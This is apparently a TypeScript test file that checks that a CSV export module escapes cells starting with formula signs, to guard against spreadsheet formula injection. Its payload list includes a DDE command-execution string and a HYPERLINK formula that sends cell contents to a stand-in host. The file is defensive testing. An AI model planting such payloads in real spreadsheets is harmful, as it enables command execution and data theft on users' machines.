import { BYTE_ORDER_MARK, csvLine } from '../src/exports/csv.js';

/** As RFC 4180 says, and as a spreadsheet with another separator reads the same file. */
function cellsOf(text: string, separator: string): readonly string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at] ?? '';
    if (isQuoted && letter === '"' && text[at + 1] === '"') {
      cell += letter;
      at += 1;
    } else if (letter === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (letter === separator || letter === '\n' || letter === '\r')) {
      cells.push(cell);
      cell = '';
    } else cell += letter;
  }
  return [...cells, cell];
}

/** What the OWASP page on CSV injection calls the beginning of a formula. */
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const PAYLOADS = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test/?"&A1,"See")', 'SUM(A1:A9)*cmd', 'x', ''];
const BEFORE = [
  '',
  ' ',
  '  \u00a0',
  '"',
  '""',
  "'",
  '`',
  '\u200b',
  ' " ',
  ';',
  'a;',
  'a;"',
  '\n',
  'a\r\n',
  'a\t',
  'a\t "',
  '",',
  'a",',
  ',',
];

test.each([',', ';', '\t'])('X44: no cell is a formula, whatever a row holds, read with %j between cells', (separator) => {
  for (const before of BEFORE)
    for (const sign of SIGNS)
      for (const payload of PAYLOADS) {
        const text = `${before}${sign}${payload}`;
        for (const cell of cellsOf(csvLine(['name', text, [text, 'b'], { [text]: text }]), separator))
          expect([text, cell, /^[\s"'`\u200b]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell.replace(/^'/, "'kept "))]).toEqual([
            text,
            cell,
            false,
          ]);
      }
});

test.each<[unknown, string]>([
  ['=1+1', `"'=1+1"`],
  ['+49 170 123', `"'+49 170 123"`],
  ['-1', `"'-1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['  =1', `"'  =1"`],
  ['\t=1', `"'\t'=1"`],
  ['"=1', `"'""=1"`],
  ['a;=1', `"a;'=1"`],
  ['a-b = c', 'a-b = c'],
  ['ana@example.com', 'ana@example.com'],
  ["O'Neil", `"O'Neil"`],
  ['x "y", z', '"x ""y"", z"'],
  ['two\nlines', '"two\nlines"'],
  ['Zoë 🦉', 'Zoë 🦉'],
  [' padded ', '" padded "'],
  [null, ''],
  [undefined, ''],
  [-1.5, '-1.5'],
  [true, 'true'],
  [['a', 'b'], '"a; b"'],
  [[], ''],
  [{ a: [1] }, '"{""a"":[1]}"'],
  ['2026-11-26T09:30:00.000Z', '2026-11-26T09:30:00.000Z'],
])('%j is written as %j', (value, written) => {
  expect(csvLine([value, 'end'])).toBe(`${written},end\r\n`);
});

test('a text comes back as it was, but for the apostrophe', () => {
  const texts = ['plain', 'x, "y"', 'a\r\nb', "it's", 'semi;colon', 'é', '', '"', '""', ','];
  expect(cellsOf(csvLine(texts).slice(0, -2), ',')).toEqual(texts);
  expect(BYTE_ORDER_MARK).toHaveLength(1);
});
